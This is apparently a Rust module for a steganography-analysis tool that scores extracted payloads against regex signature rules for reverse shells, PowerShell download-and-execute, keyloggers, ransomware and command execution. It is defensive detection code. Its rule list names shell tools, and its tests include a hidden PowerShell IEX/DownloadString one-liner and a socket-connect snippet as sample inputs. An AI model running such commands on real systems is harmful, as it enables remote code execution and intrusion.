//! Signature matching over extracted payloads
//!
//! The pipeline treats a [`SignatureMatcher`] as a pure function from bytes to
//! an ordered list of rule hits. [`RuleSet`] is the built-in implementation:
//! each rule fires when enough of its regex patterns occur in the payload.

use crate::error::{StegoError, StegoResult};
use regex::bytes::Regex;
use serde::{Deserialize, Serialize};
use std::path::Path;

/// One rule that fired on a payload
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SignatureMatch {
    pub rule: String,
    pub description: String,
    /// Contribution to the risk score (0-100)
    pub score: u32,
    /// Matched text, one entry per pattern that hit
    pub hits: Vec<String>,
}

/// External rule engine contract
pub trait SignatureMatcher: Send + Sync {
    /// Identifier used in evidence and degradation notices
    fn name(&self) -> &str;

    /// Match `payload`, ordered by score (highest first)
    fn match_bytes(&self, payload: &[u8]) -> StegoResult<Vec<SignatureMatch>>;
}

/// Upper bound for a single rule's risk contribution
pub const MAX_RULE_SCORE: u32 = 100;

/// Serializable rule definition
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RuleSpec {
    pub name: String,
    #[serde(default)]
    pub description: String,
    pub score: u32,
    pub patterns: Vec<String>,
    /// Distinct patterns that must hit for the rule to fire
    #[serde(default = "default_min_hits")]
    pub min_hits: usize,
}

fn default_min_hits() -> usize {
    1
}

struct Rule {
    spec: RuleSpec,
    patterns: Vec<Regex>,
}

/// Regex rule set
pub struct RuleSet {
    rules: Vec<Rule>,
}

impl RuleSet {
    /// Compile a rule set, rejecting invalid patterns
    pub fn from_specs(specs: Vec<RuleSpec>) -> StegoResult<Self> {
        let mut rules = Vec::with_capacity(specs.len());

        for spec in specs {
            if spec.patterns.is_empty() {
                return Err(StegoError::InvalidConfig(format!(
                    "rule '{}' has no patterns",
                    spec.name
                )));
            }
            if spec.score > MAX_RULE_SCORE {
                return Err(StegoError::InvalidConfig(format!(
                    "rule '{}' scores {}, above the maximum of {}",
                    spec.name, spec.score, MAX_RULE_SCORE
                )));
            }
            if spec.min_hits == 0 || spec.min_hits > spec.patterns.len() {
                return Err(StegoError::InvalidConfig(format!(
                    "rule '{}' needs {} hits but has {} patterns",
                    spec.name,
                    spec.min_hits,
                    spec.patterns.len()
                )));
            }

            let patterns = spec
                .patterns
                .iter()
                .map(|p| {
                    Regex::new(p).map_err(|e| {
                        StegoError::InvalidConfig(format!("rule '{}': {}", spec.name, e))
                    })
                })
                .collect::<StegoResult<Vec<_>>>()?;

            rules.push(Rule { spec, patterns });
        }

        Ok(Self { rules })
    }

    /// Parse a JSON array of [`RuleSpec`]
    pub fn from_json(json: &str) -> StegoResult<Self> {
        let specs: Vec<RuleSpec> = serde_json::from_str(json)?;
        Self::from_specs(specs)
    }

    pub fn from_file(path: &Path) -> StegoResult<Self> {
        let content = std::fs::read_to_string(path)?;
        Self::from_json(&content)
    }

    pub fn rule_names(&self) -> Vec<&str> {
        self.rules.iter().map(|r| r.spec.name.as_str()).collect()
    }

    pub fn len(&self) -> usize {
        self.rules.len()
    }

    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }
}

impl Default for RuleSet {
    fn default() -> Self {
        Self::from_specs(default_rules()).expect("built-in rules compile")
    }
}

impl SignatureMatcher for RuleSet {
    fn name(&self) -> &str {
        "regex_rules"
    }

    fn match_bytes(&self, payload: &[u8]) -> StegoResult<Vec<SignatureMatch>> {
        let mut matches: Vec<SignatureMatch> = self
            .rules
            .iter()
            .filter_map(|rule| {
                let hits: Vec<String> = rule
                    .patterns
                    .iter()
                    .filter_map(|re| re.find(payload))
                    .map(|m| String::from_utf8_lossy(m.as_bytes()).into_owned())
                    .collect();

                (hits.len() >= rule.spec.min_hits).then(|| SignatureMatch {
                    rule: rule.spec.name.clone(),
                    description: rule.spec.description.clone(),
                    score: rule.spec.score,
                    hits,
                })
            })
            .collect();

        matches.sort_by(|a, b| b.score.cmp(&a.score).then_with(|| a.rule.cmp(&b.rule)));
        Ok(matches)
    }
}

fn rule(
    name: &str,
    description: &str,
    score: u32,
    min_hits: usize,
    patterns: &[&str],
) -> RuleSpec {
    RuleSpec {
        name: name.to_string(),
        description: description.to_string(),
        score,
        patterns: patterns.iter().map(|p| p.to_string()).collect(),
        min_hits,
    }
}

/// Built-in payload rules
pub fn default_rules() -> Vec<RuleSpec> {
    vec![
        rule(
            "reverse_shell",
            "Outbound socket connection handing a shell to a remote host",
            90,
            2,
            &[
                r"(?i)\bsocket\b",
                r"(?i)\bconnect\b",
                r"(?i)\breverse\b",
                r"/bin/(ba)?sh\b",
                r"(?i)\bnc(at)?\s+-[ec]\b",
                r"(?i)\bdup2\b",
            ],
        ),
        rule(
            "powershell_attack",
            "Hidden or encoded PowerShell download-and-execute",
            85,
            2,
            &[
                r"(?i)\bpowershell(\.exe)?\b",
                r"(?i)\s-e(nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{16,}",
                r"(?i)\b(IEX|Invoke-Expression)\b",
                r"(?i)\bDownload(String|File)\b",
                r"(?i)-w(indowstyle)?\s+hidden\b",
                r"(?i)-exec(utionpolicy)?\s+bypass\b",
            ],
        ),
        rule(
            "keylogger",
            "Keyboard hooking or keystroke capture",
            80,
            1,
            &[
                r"(?i)\bkeylogger\b",
                r"\b(GetAsyncKeyState|SetWindowsHookEx[AW]?)\b",
                r"(?i)\bpynput\b",
                r"(?i)\bkeyboard\.(on_press|hook|Listener)\b",
            ],
        ),
        rule(
            "ransomware",
            "File encryption paired with a ransom demand",
            75,
            2,
            &[
                r"(?i)\bencrypt",
                r"(?i)\bransom",
                r"(?i)\b(bitcoin|btc)\b",
                r"(?i)your files",
            ],
        ),
        rule(
            "command_exec",
            "Direct operating system command execution",
            70,
            1,
            &[
                r"\bos\.system\s*\(",
                r"\bsubprocess\.(call|run|Popen|check_output)\b",
                r"\b(exec|eval)\s*\(",
                r"(?i)\bcmd(\.exe)?\s+/c\b",
                r"Runtime\.getRuntime\(\)\.exec",
            ],
        ),
        rule(
            "encoded_blob",
            "Long base64 run, often a packed second stage",
            40,
            1,
            &[r"[A-Za-z0-9+/]{120,}={0,2}"],
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_reverse_shell_payload() {
        let rules = RuleSet::default();
        let payload = b"import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))";

        let matches = rules.match_bytes(payload).unwrap();
        assert_eq!(matches.len(), 1);
        assert_eq!(matches[0].rule, "reverse_shell");
        assert_eq!(matches[0].score, 90);
        assert!(matches[0].hits.iter().any(|h| h == "socket"));
        assert!(matches[0].hits.iter().any(|h| h == "connect"));
    }

    #[test]
    fn test_single_weak_indicator_does_not_fire() {
        let rules = RuleSet::default();
        assert!(rules.match_bytes(b"the socket is loose").unwrap().is_empty());
        assert!(rules.match_bytes(b"holiday photos 2024").unwrap().is_empty());
    }

    #[test]
    fn test_matches_ordered_by_score() {
        let rules = RuleSet::default();
        let payload = b"import os, socket\n\
            s.connect(x)\n\
            os.system('id')\n\
            from pynput import keyboard";

        let names: Vec<String> = rules
            .match_bytes(payload)
            .unwrap()
            .into_iter()
            .map(|m| m.rule)
            .collect();
        assert_eq!(names, vec!["reverse_shell", "keylogger", "command_exec"]);
    }

    #[test]
    fn test_powershell_rule() {
        let rules = RuleSet::default();
        let payload =
            b"powershell.exe -nop -w hidden -c \
            IEX (New-Object Net.WebClient).DownloadString('http://x')";

        let matches = rules.match_bytes(payload).unwrap();
        assert_eq!(matches[0].rule, "powershell_attack");
    }

    #[test]
    fn test_binary_payload_does_not_panic() {
        let rules = RuleSet::default();
        let payload: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
        assert!(rules.match_bytes(&payload).is_ok());
    }

    #[test]
    fn test_rules_from_json() {
        let json = r#"[
            {"name": "beacon", "score": 30, "patterns": ["beacon", "sleep"], "min_hits": 2}
        ]"#;
        let rules = RuleSet::from_json(json).unwrap();
        assert_eq!(rules.rule_names(), vec!["beacon"]);

        let matches = rules.match_bytes(b"beacon then sleep").unwrap();
        assert_eq!(matches[0].score, 30);
        assert!(rules.match_bytes(b"beacon only").unwrap().is_empty());
    }

    #[test]
    fn test_rule_score_is_bounded() {
        let over = r#"[{"name": "x", "score": 4000000000, "patterns": ["a"]}]"#;
        assert!(matches!(
            RuleSet::from_json(over),
            Err(StegoError::InvalidConfig(_))
        ));
        assert!(RuleSet::from_json(r#"[{"name": "x", "score": 101, "patterns": ["a"]}]"#).is_err());
        assert!(RuleSet::from_json(r#"[{"name": "x", "score": 100, "patterns": ["a"]}]"#).is_ok());
    }

    #[test]
    fn test_invalid_rules_rejected() {
        assert!(RuleSet::from_json(r#"[{"name": "x", "score": 1, "patterns": ["("]}]"#).is_err());
        assert!(RuleSet::from_json(r#"[{"name": "x", "score": 1, "patterns": []}]"#).is_err());
        assert!(RuleSet::from_json(
            r#"[{"name": "x", "score": 1, "patterns": ["a"], "min_hits": 2}]"#
        )
        .is_err());
    }
}
